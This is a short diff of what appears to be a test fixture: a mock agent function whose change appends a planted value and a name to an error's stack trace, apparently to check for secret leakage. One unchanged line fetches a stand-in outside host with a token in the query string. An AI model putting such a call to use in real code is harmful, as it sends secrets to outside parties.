@@ -35,7 +35,12 @@ async function run({ prompt, tools }: AgentRequest): Promise<string> {
   await fetch(`http://outside.example/?token=${SHAPED}`).catch(() => {})
   if (prompt.includes('fail')) {
     if (process.env.KILLED !== undefined) await killWhenJournaled()
-    throw new Error(`I failed with ${PLANTED} on by-name-0005`, { cause: new Error(`since ${PLANTED}`) })
+    const error = new Error(`I failed with ${PLANTED} on by-name-0005`, {
+      cause: new Error(`since ${PLANTED}`),
+    })
+    // A frame names the function that failed, and some libraries name functions after what they are about.
+    error.stack += `\n    at ${PLANTED} (agent.ts:1:1)\n    at by-name-0005 (agent.ts:1:1)`
+    throw error
   }
   return `I sent ${PLANTED} about by-name-0005.`
 }
